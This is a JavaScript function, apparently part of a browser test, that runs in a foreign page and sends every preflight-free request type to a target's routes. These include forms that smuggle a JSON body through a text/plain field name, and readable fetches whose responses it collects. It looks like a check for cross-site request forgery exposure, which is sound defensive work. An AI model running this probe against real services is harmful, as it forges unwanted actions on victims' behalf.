// Runs in a foreign page: tries every kind of request that a browser sends without a preflight.
async ([target, routes]) => {
  const attempt = promise => promise.then(() => {}, () => {});
  const loaded = element => new Promise(resolve => {
    element.onload = element.onerror = resolve;
    setTimeout(resolve, 2000);
  });

  const submit = async (url, enctype, body) => {
    const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { name: `frame-${Math.random()}` }));
    const form = document.body.appendChild(Object.assign(document.createElement('form'), { method: 'post', action: url, enctype, target: frame.name }));
    // Sent as name=value; the "=" is inside a JSON string.
    form.append(Object.assign(document.createElement('input'), { name: `${body.slice(0, -1)},"x":"`, value: '"}' }));
    const done = loaded(frame);
    form.submit();
    await done;
    frame.remove();
  };

  const load = async (tag, attributes) => {
    const element = Object.assign(document.createElement(tag), attributes);
    const done = loaded(element);
    document.body.append(element);
    await done;
    element.remove();
  };

  const read = [];
  await Promise.all(routes.map(async ({ method, path, body }) => {
    const url = target + path;
    if (method === 'GET') {
      await load('img', { src: url });
      await load('script', { src: url });
      await load('iframe', { src: url });
      await load('object', { data: url });
      await attempt(fetch(url, { mode: 'no-cors' }));
    } else if (method === 'POST') {
      for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
        await submit(url, enctype, body);
      }

      await attempt(fetch(url, { method, mode: 'no-cors', body }));
      await attempt(fetch(url, { method, mode: 'no-cors' }));
      navigator.sendBeacon(url, body);
    }

    const headers = method === 'GET' ? {} : { 'Content-Type': 'application/json' };
    await attempt(fetch(url, { method, headers, body: method === 'GET' ? undefined : body }).then(async answer => read.push(await answer.text())));
    await attempt(fetch(url, { method, body: method === 'GET' ? undefined : body }).then(async answer => read.push(await answer.text())));
  }));
  return read;
}
